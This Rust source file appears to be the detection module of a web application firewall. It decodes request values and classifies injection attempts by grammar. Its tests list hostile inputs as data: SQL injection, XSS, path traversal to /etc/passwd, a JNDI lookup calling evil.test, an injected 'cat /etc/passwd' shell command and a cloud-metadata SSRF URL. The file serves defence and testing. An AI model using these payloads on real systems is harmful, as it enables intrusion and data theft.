//! Detectors over bytes: does this value try to become code where it arrives?
//!
//! [`inspect`] decodes a value as applications do, a bounded number of times, and asks each detector about each distinct
//! reading. A detector knows the grammar that an attacker has to produce, not a list of bad words, and answers with how
//! sure it is and a reason that a person understands. Sentences mention code more often than they are code: in what
//! reads like them, detectors ask for more.

mod bytes;
mod code;
mod decode;
mod headers;
mod html;
mod ldap;
mod lookup;
mod marks;
mod nosql;
mod path;
mod prose;
mod scanner;
mod serialized;
mod shell;
mod sql;
mod ssrf;
mod template;
mod xml;

use std::cell::OnceCell;

pub use decode::Decoding;

macro_rules! classes {
    ($($(#[doc = $doc:literal])* $variant:ident = $name:literal by $module:ident, $needs:literal;)*) => {
        /// What a value tries to become.
        ///
        /// Section numbers are those of [the guide](https://github.com/doorward/doorward/blob/main/docs/guide.md).
        #[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
        pub enum Class { $($(#[doc = $doc])* $variant),* }

        /// Every class.
        pub const ALL: [Class; [$(Class::$variant),*].len()] = [$(Class::$variant),*];

        impl Class {
            /// The name in events.
            pub const fn name(self) -> &'static str {
                match self { $(Class::$variant => $name),* }
            }

            /// The class of a name.
            pub fn from_name(name: &str) -> Option<Class> {
                ALL.into_iter().find(|class| class.name() == name)
            }

            /// The bytes of which there has to be one.
            const fn needs(self) -> u64 {
                match self { $(Class::$variant => marks::of($needs)),* }
            }

            fn detect(self, text: &Text<'_>) -> Found {
                match self { $(Class::$variant => $module::detect(text)),* }
            }
        }
    };
}

classes! {
    /// SQL (guide §1).
    Sql = "sql" by sql, b" '\"`();=<>#|&*/-@+,";
    /// HTML or script (guide §3).
    Html = "html" by html, b"<=(`[.:{";
    /// A look-up that a logger or template evaluates: `${jndi:...}` (guide §9).
    Lookup = "lookup" by lookup, b"$";
    /// A command of the system (guide §9).
    Shell = "shell" by shell, b";|&`$()/{}<>\\ %'\"^=";
    /// A path out of its directory (guide §9).
    Path = "path" by path, b"/\\.:";
    /// A request to where only the server gets (guide §9).
    Ssrf = "ssrf" by ssrf, b"/:";
    /// An expression of a template engine (guide §9).
    Template = "template" by template, b"{<#[@%";
    /// An operator or code of a document database (guide §9).
    NoSql = "nosql" by nosql, b"$'\"=|;.*";
    /// A condition of a directory's filter, or of XPath (guide §9).
    Ldap = "ldap" by ldap, b"*()[/\"";
    /// XML that loads or expands, server-side includes (guide §9).
    Xml = "xml" by xml, b"<";
    /// A header of HTTP or mail behind a line break (guide §9).
    Headers = "headers" by headers, b"";
    /// A serialised object (guide §9).
    Serialized = "serialized" by serialized, b"";
    /// A tool that names itself (guide §9).
    Scanner = "scanner" by scanner, b"/";
    /// Code of the server's language (guide §9).
    Code = "code" by code, b"(`[{<_.;'\"%";
}

/// How sure a detector is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
pub enum Confidence {
    /// Seen in attacks, and as often in what people write.
    Low,
    /// Seldom in what people write.
    Medium,
    /// An attack.
    High,
}

impl Confidence {
    /// What a finding adds to the score of a request. What is seen as often in what people write adds nothing.
    pub const fn score(self) -> u32 {
        match self {
            Confidence::Low => 0,
            Confidence::Medium => 3,
            Confidence::High => 5,
        }
    }

    /// The name in events.
    pub const fn name(self) -> &'static str {
        match self {
            Confidence::Low => "low",
            Confidence::Medium => "medium",
            Confidence::High => "high",
        }
    }
}

/// Why a value was found to be an attack.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    /// What it tries to become.
    pub class: Class,
    /// How sure that is.
    pub confidence: Confidence,
    /// One line that a person understands.
    pub reason: &'static str,
    /// What had to be decoded to see it.
    pub decodings: Vec<Decoding>,
}

/// What a detector finds.
pub(crate) type Found = Option<(Confidence, &'static str)>;

/// The surer of two findings; the first where they are the same.
pub(crate) fn surer(one: Found, other: Found) -> Found {
    match (one, other) {
        (Some((known, _)), Some((confidence, _))) if confidence > known => other,
        (None, other) => other,
        (one, _) => one,
    }
}

/// A reading that is judged.
pub(crate) struct Text<'t> {
    pub(crate) bytes: &'t [u8],
    marks: u64,
    prose: OnceCell<bool>,
}

impl Text<'_> {
    /// Whether it has one of some bytes, by their marks.
    pub(crate) const fn any(&self, marks: u64) -> bool {
        self.marks & marks != 0
    }

    /// Whether it reads like sentences.
    pub(crate) fn is_prose(&self) -> bool {
        *self.prose.get_or_init(|| prose::is_prose(self.bytes))
    }
}

/// Judges a value in every reading that an application may give it, `rounds` decodings deep, for some classes. The
/// finding that is surest.
pub fn inspect(value: &[u8], rounds: usize, classes: &[Class]) -> Option<Finding> {
    if is_plain(value) && !is_encoded(value) {
        return None;
    }
    let mut best: Option<Finding> = None;
    let sure = decode::readings(value, rounds, |reading| {
        if is_plain(&reading.text) {
            return None;
        }
        let marks = marks::marks(&reading.text);
        let text = Text { bytes: &reading.text, marks, prose: OnceCell::new() };
        for class in classes.iter().filter(|class| class.needs() & marks != 0) {
            let Some((confidence, reason)) = class.detect(&text) else { continue };
            if best.as_ref().is_none_or(|known| confidence > known.confidence) {
                best =
                    Some(Finding { class: *class, confidence, reason, decodings: reading.decodings.clone() });
            }
            if confidence == Confidence::High {
                return Some(());
            }
        }
        None
    });
    debug_assert!(sure.is_none() || best.is_some());
    best
}

/// Letters, digits and a few marks: no grammar that a detector knows can be written with these alone.
fn is_plain(value: &[u8]) -> bool {
    value.iter().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.' | b'-' | b',' | b'@' | b':'))
        && !value.windows(2).any(|pair| matches!(pair, b".." | b"__" | b"--"))
        && !bytes::has(value, "constructor.prototype")
        && !bytes::has(value, "lassLoader")
        && !serialized::begins(value)
        // A URL without slashes is one for some clients.
        && !bytes::begins(value, "http")
}

/// Whether letters and digits may spell other bytes.
fn is_encoded(value: &[u8]) -> bool {
    value.len() >= 8 && value.iter().all(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-'))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn found(value: &str) -> Option<Class> {
        inspect(value.as_bytes(), 3, &ALL).filter(|f| f.confidence == Confidence::High).map(|f| f.class)
    }

    #[test]
    fn attacks_are_found_in_every_reading() {
        for (value, expected) in [
            ("' OR '1'='1", Class::Sql),
            ("1 OR 1=1", Class::Sql),
            ("'; DROP TABLE users; --", Class::Sql),
            ("%27%20OR%20%271%27=%271", Class::Sql),
            ("%2527%2520OR%2520%25271%2527=%25271", Class::Sql),
            ("1 UNION SELECT password FROM users", Class::Sql),
            ("<script>alert(1)</script>", Class::Html),
            ("<img src=x onerror=alert(1)>", Class::Html),
            ("&lt;script&gt;alert(1)&lt;/script&gt;", Class::Html),
            ("%3Csvg%20onload=alert(1)%3E", Class::Html),
            ("../../../../etc/passwd", Class::Path),
            ("..%2f..%2f..%2fetc%2fpasswd", Class::Path),
            ("${jndi:ldap://evil.test/a}", Class::Lookup),
            ("${${lower:j}ndi:ldap://evil.test/a}", Class::Lookup),
            ("x; cat /etc/passwd", Class::Shell),
            ("http://169.254.169.254/latest/meta-data/", Class::Ssrf),
            ("{{7*7}}", Class::Template),
            ("*)(uid=*))(|(uid=*", Class::Ldap),
            ("x\r\nSet-Cookie: a=b", Class::Headers),
        ] {
            assert_eq!(found(value), Some(expected), "{value}");
        }
    }

    #[test]
    fn what_people_write_passes() {
        for value in [
            "O'Brien",
            "D'Angelo & Sons, Ltd.",
            "Please select the best option from the menu and drop me a line.",
            "I don't want to update; where is the delete button?",
            "# Title\n\n* item one\n* item **two**\n\n> quoted\n\n[link](https://example.com/a?b=c&d=e)",
            "ünïcödé 日本語 🎉",
            "a=b&c=d",
            "100% sure -- really!",
            "https://example.com/search?q=a%20b&page=2",
            "2026-11-24T10:00:00Z",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
            "see ../README for more",
            "price is ${amount} today",
            "5' 6\" tall",
            "Rock 'n' Roll",
            "it's 5 o'clock or so",
            "Tom & Jerry; cat and mouse",
        ] {
            assert_eq!(found(value), None, "{value}: {:?}", inspect(value.as_bytes(), 3, &ALL));
        }
    }
}
